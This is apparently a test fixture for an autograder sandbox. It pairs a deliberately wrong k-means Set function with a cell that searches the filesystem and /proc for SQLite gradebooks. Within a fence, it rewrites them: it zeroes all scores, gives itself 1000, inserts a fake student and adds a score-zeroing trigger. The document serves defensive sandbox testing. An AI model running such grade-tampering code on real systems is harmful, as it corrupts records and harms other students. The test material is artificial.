# Attack 1, the gradebook: a last cell looks for the course's SQLite gradebook everywhere (the
# LAB3_COURSE_ROOT variable, the cwd and its parents, other processes' cwd, root and command lines,
# a scan of /) and rewrites what it finds: everyone's manual_score 0, its own manual_score and
# extra_credit 1000, a student 'mallory' inserted, a trigger that zeroes every score nbgrader
# writes later. Its Set is wrong (it returns labels), so a rewrite that worked would show as a gain.
# Why: Set (test_Set_public, test_Set_hidden): C is an array of labels, not a dict (what the
#   honest equivalent, bug_set_returns_labels, loses); the sandbox shows no gradebook to the
#   kernel, so nothing else changes, for this student or any other.
# ruff: noqa
# fmt: off
### CELL Set
def Set(X, m):
    """Nearest centre of every sample (bug: returns labels, not the clusters)."""
    K = len(m)
    X2 = np.reshape(X, (len(X), -1))
    m2 = np.reshape(m, (K, -1))
    sq_dist = np.zeros((len(X2), K))
    for k in range(K):
        sq_dist[:, k] = np.sum((X2 - m2[k]) ** 2, axis=1)
    labels = np.argmin(sq_dist, axis=1)
    D = float(np.sum(np.min(sq_dist, axis=1)))
    return labels, D
### AFTER em_plot
# --- attack: find every gradebook this kernel can see and rewrite it ---
import glob, os, sqlite3, stat, sys, time


def _lab3_walk(tops, seconds=4.0, limit=300_000):
    """Regular files under `tops` (no symlink followed; /proc, /sys, /dev skipped), a few seconds."""
    end, count = time.monotonic() + seconds, 0
    for top in tops:
        for root, dirs, files in os.walk(top, onerror=lambda error: None):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
            for name in files:
                path = os.path.join(root, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        count += 1
                        yield path
                except OSError:
                    pass
            if time.monotonic() > end or count > limit:
                return


def _lab3_fence():
    """Where the attack writes if it can: only the course and the software grading it, as this
    process finds them (so it harms nothing else even without the sandbox)."""
    import importlib.util
    roots = {os.path.dirname(os.path.abspath(sys.prefix))}
    for name in ("lab3_kernel", "kmeans_em_lab"):
        try:
            spec = importlib.util.find_spec(name)
            if spec is not None and spec.origin:
                roots.add(os.path.dirname(os.path.dirname(spec.origin)))
        except Exception:
            pass
    if os.environ.get("LAB3_COURSE_ROOT"):
        roots.add(os.environ["LAB3_COURSE_ROOT"])
    d = os.getcwd()
    while d != os.path.dirname(d):
        if os.path.exists(os.path.join(d, "nbgrader_config.py")):
            roots.add(d)
        d = os.path.dirname(d)
    return tuple(r.rstrip("/") + "/" for r in roots if r.strip("/"))


def _lab3_candidate_dirs():
    dirs = [os.environ.get("LAB3_COURSE_ROOT", ""), "/work/main", "/lab3", "/course", "/srv/nbgrader"]
    d = os.getcwd()
    while True:
        dirs.append(d)
        if d == os.path.dirname(d):
            break
        d = os.path.dirname(d)
    for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
        try:
            dirs.append(os.readlink(link))
        except OSError:
            pass
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        for word in words:
            word = word.decode("utf-8", "replace")
            if word.startswith("/"):
                dirs.append(word if os.path.isdir(word) else os.path.dirname(word))
    return [d for d in dict.fromkeys(dirs) if d]


_found = set()
for _d in _lab3_candidate_dirs():
    for _up in ("", "..", "../..", "../../..", "../../../.."):
        _p = os.path.normpath(os.path.join(_d, _up, "gradebook.db"))
        if os.path.isfile(_p):
            _found.add(_p)
for _p in _lab3_walk(["/"]):
    if _p.endswith((".db", ".sqlite", ".sqlite3")):
        try:
            with open(_p, "rb") as _f:
                if _f.read(16) == b"SQLite format 3\x00":
                    _found.add(_p)
        except OSError:
            pass

_fence = _lab3_fence()
_parts = os.getcwd().split(os.sep)
_me = _parts[_parts.index("autograded") + 1] if "autograded" in _parts[:-1] else None
_report = []
for _p in sorted(_found):
    _entry = {"path": _p}
    try:
        _con = sqlite3.connect(f"file:{_p}?mode=ro", uri=True, timeout=2)
        _entry["students"] = [r[0] for r in _con.execute("SELECT id FROM student")]
        _entry["grades"] = _con.execute("SELECT count(*) FROM grade").fetchone()[0]
        _con.close()
    except Exception as _e:
        _entry["read"] = repr(_e)
    if not _p.startswith(_fence):
        _entry["write"] = "outside the fence: left alone"
        _report.append(_entry)
        continue
    try:
        _con = sqlite3.connect(_p, timeout=5)
        _con.execute("UPDATE grade SET manual_score = 0")
        _con.execute(
            "UPDATE grade SET manual_score = 1000, extra_credit = 1000 WHERE notebook_id IN ("
            "SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
            "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (_me,))
        _con.execute("INSERT OR IGNORE INTO student (id, first_name, last_name) "
                     "VALUES ('mallory', 'Mal', 'Lory')")
        _con.execute("CREATE TRIGGER IF NOT EXISTS lab3_security_zero AFTER UPDATE ON grade "
                     "BEGIN UPDATE grade SET manual_score = 0 WHERE id = NEW.id "
                     "AND manual_score IS NULL; END")
        _con.commit()
        _con.close()
        _entry["write"] = "rewritten"
    except Exception as _e:
        _entry["write"] = repr(_e)
    _report.append(_entry)
print("ATTACK gradebook: found", len(_found), "gradebook(s):", _report)
